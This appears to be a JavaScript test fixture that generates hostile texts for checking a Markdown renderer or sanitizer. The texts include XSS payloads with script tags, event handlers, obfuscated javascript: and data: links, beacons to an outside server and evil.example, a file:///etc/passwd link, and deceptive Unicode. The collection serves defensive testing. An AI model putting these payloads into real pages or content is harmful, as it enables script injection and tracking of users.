// Hostile texts: markup, scripts, strange links and deceptive characters, alone and inside Markdown.

/**
 * Returns the texts. Each text tries to call `ran()`, or to load something from `outside`, the address of a server that
 * counts connections.
 */
export function payloads(outside) {
  // The request to `outside` reveals that the script has run, even if it has run inside a frame. The script contains no
  // space, so it fits into any link.
  const script = `globalThis.ran?.('x');(new(Image)).src='${outside}/ran'`;
  return [
    `<script>${script}</script>`, `<img src=x onerror="${script}">`, `<svg onload="${script}"></svg>`, `<svg><script>${script}</script></svg>`,
    `<iframe src="javascript:${script}"></iframe>`, `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`, `<body onload="${script}">`,
    `<math><mi xlink:href="javascript:${script}">x</mi></math>`, `<details open ontoggle="${script}">x</details>`, `<input autofocus onfocus="${script}">`,
    `<style>@import "${outside}/a.css"; * { background: url(${outside}/b.png) }</style>`, `<link rel="stylesheet" href="${outside}/c.css">`,
    `<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="//evil.example">`, `<meta http-equiv="refresh" content="0;url=${outside}/d">`,
    `<base href="${outside}/">`, `<object data="${outside}/e.swf"></object>`, `<embed src="${outside}/f">`, `<video src="${outside}/g" poster="${outside}/h" autoplay></video>`,
    `<form action="${outside}/i"><button autofocus>x</button></form>`, `<a href="javascript:${script}" ping="${outside}/j">x</a>`,
    `<img srcset="${outside}/k 1x" src="${outside}/l">`, `<table background="${outside}/m"><td>x</td></table>`,
    "</textarea></title></style></script><script>globalThis.ran?.('y')</script>", "<!--><img src=x onerror=globalThis.ran?.('z')>-->", "<![CDATA[<script>globalThis.ran?.(1)</script>]]>",
    `[x](javascript:${script})`, `[x](JaVaScRiPt:${script})`, `[x](java\tscript:${script})`, `[x](java&#115;cript:${script})`, `[x](javascript&colon;${script})`,
    `[x](&#x6A;avascript:${script})`, `[x](<java\u0001script:${script}>)`, `[x](\u0000javascript:${script})`, `[x]( javascript:${script} )`, `[x](javascript://%0a${script})`,
    `[x](data:text/html,<script>${script}</script>)`, "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)", `[x](vbscript:msgbox(1))`, "[x](file:///etc/passwd)",
    `[x](blob:${outside}/1)`, `[x](//evil.example)`, `[x](\\\\evil.example)`, `[x](/logout)`, `[x](#/society)`, `[x](?a)`, "[x](view-source:https://evil.example)",
    `[x](https://good.example@evil.example/)`, `[https://good.example](https://evil.example)`, `[x](https://evil.example "\" onclick=\"${script}")`,
    `![x](javascript:${script})`, `![x](${outside}/n.png)`, `![x](data:image/svg+xml,<svg onload=${script}>)`, `![${outside}/o](${outside}/p "t")`, `[![x](${outside}/q.png)](javascript:${script})`,
    `![x](//evil.example/r.png)`, "![x](artifact:../../../login)", "[x](artifact:abc/../../content?x=1#y)", "[x](artifact:javascript:1)",
    `<javascript:${script}>`, `<${outside}/s>`, `${outside}/t`, `https://evil.example/\u202egnp.exe`, `[x]: javascript:${script}\n\n[x]`, `[x][y]\n\n[y]: ${outside}/u`,
    "evil\u202etxt.exe", "\u2066a\u2067b\u2068c\u2069", "a\u0000b\u001b[31mc\u0007", "\u061c\u200e\u200f", "\ud800 lone", "Z\u0351\u0352\u0353\u0354\u0355".repeat(30),
    `\`\`\`html\n<script>${script}</script>\n\`\`\``, `\`\`\`"><script>${script}</script>\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `| <img src=x onerror=${script}> | b |\n|---|---|\n| [x](javascript:${script}) | ![x](${outside}/v) |`,
    `$$<img src=x onerror=${script}>$$`, `\\(<script>${script}</script>\\)`, `{{constructor.constructor('${script}')()}}`, "${globalThis.ran?.(2)}", "__proto__", "constructor", "toString",
    "javascript:globalThis.ran?.(3)", "' onclick='globalThis.ran?.(4)", "\"><svg/onload=globalThis.ran?.(5)>", "`onmouseover=globalThis.ran?.(6)`",
    "*".repeat(3000), "[".repeat(3000), "> ".repeat(1000) + "x", "- ".repeat(1000) + "x", "`".repeat(3000), "|".repeat(2000), "![".repeat(1000) + "](x)".repeat(1000), "\n".repeat(500),
  ];
}

/** Functions that put a text inside Markdown. */
const AROUND = [
  (text) => text, (text) => `# ${text}`, (text) => `- ${text}\n  - ${text}`, (text) => `> ${text}`, (text) => `**${text}**`, (text) => `| a | b |\n|---|---|\n| ${text} | \`${text}\` |`,
  (text) => `[${text}](https://evil.example)`, (text) => `![${text}](https://evil.example/x.png)`, (text) => `\`\`\`js\n${text}\n\`\`\``, (text) => `1. [ ] ${text}\n\n   ${text}`, (text) => `a ${text} b *${text}* ~~${text}~~`,
];

/** Returns `count` different hostile texts. */
export function hostileTexts(outside, count) {
  const all = payloads(outside);
  return Array.from({ length: count }, (_, at) => {
    const around = AROUND[Math.floor(at / all.length) % AROUND.length];
    const text = around(all[at % all.length]);
    const other = at >= all.length * AROUND.length ? `\n\n${all[(at * 7) % all.length]}` : "";
    return `${text}${other}\n\nnumber ${at}.`;
  });
}
